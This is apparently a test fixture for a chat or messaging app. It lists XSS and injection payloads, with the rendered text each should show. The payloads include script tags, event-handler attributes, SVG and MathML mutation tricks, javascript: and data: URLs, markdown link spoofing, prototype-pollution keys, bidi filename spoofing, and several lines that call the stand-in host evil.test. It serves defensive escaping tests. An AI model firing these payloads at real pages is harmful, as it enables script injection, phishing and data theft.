// What somebody writes who wants to run a script in another's page, lead them away, or break the page.
// As a message each is only a text: `[written, shown]` where a rule of the markup shows it otherwise.

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n >alert(1)</script\n >',
  '</script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<<script>alert(1)//<</script>',
  '--><script>alert(1)</script><!--',
];

const TAGS = [
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img/src=x\tonerror=alert(1)//',
  '<img src=x onerror="&#97;lert(1)">',
  '<image href=1 onerror=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=//evil.test/">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import "//evil.test/x.css"; body { display: none }</style>',
  '<div style="background:url(//evil.test/x.png);position:fixed;inset:0">x</div>',
  '<form action=//evil.test><button>send</button></form>',
  '<a id=field name=attributes>x</a>',
  '<plaintext>',
  '<img src="x" onerror="alert(String.fromCharCode(88))">',
];

const DRAWINGS = [
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a href="javascript:alert(1)"><text y=20>x</text></a>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'></svg>#x">',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<table><td><select><script>alert(1)</script>',
  '<math><mtext></p><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
];

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#x0A;script:alert(1)',
  '&#106;avascript&colon;alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'blob:null/alert(1)',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT://%0aalert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](\u0085javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.test/)',
  '[x](https://someone:secret@evil.test/)',
  '![x](//evil.test/x.png)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)',
  '[x]("onmouseover="alert(1))',
  '[x](//evil.test/" onclick="alert(1))',
  'http://me:secret@evil.test/',
  ['[http://bank.test](http://evil.test/)', 'http://bank.test (evil.test)'],
  ['[x](http://evil.test/"onmouseover="alert(1))', 'x'],
  ['[\u202Egpj.exe](http://evil.test/)', 'gpj.exe (evil.test)'],
  'http://evil.test/"><img src=x onerror=alert(1)>',
];

const BREAKS = [
  '"><b>bold</b>',
  '"onfocus="alert(1)"autofocus="',
  "' onmouseover='alert(1)",
  "';alert(1)//",
  '\\";alert(1);//',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp; %3Cb%3E %41',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '#{alert(1)} <%= alert(1) %> [[alert(1)]]',
  '{"__proto__":{"hacked":true},"type":"message"}',
  '\u202Egnp.exe \u2066hidden\u2069 \u200B\uFEFFand \u0301',
  '@__proto__ @constructor @toString',
];

/** Names of what every object has: legal as names of people, and most of them as names of rooms. */
export const NAMES = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', '__defineGetter__', 'onerror', "O'Brien_-."];

export const MESSAGES = [...SCRIPTS, ...TAGS, ...DRAWINGS, ...ADDRESSES, ...BREAKS, ...NAMES].map((each) => [each].flat()).map(([written, shown = written]) => ({ written, shown }));

/** Texts with characters that no server takes: these are left out before anything is sent. */
export const CLEANED = ['null\u0000byte', '<img src=x\u0000 onerror=alert(1)>', '\u001B[31mred', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'].map((written) => ({ written, shown: written.replace(/[\0\u001B]/g, '') }));
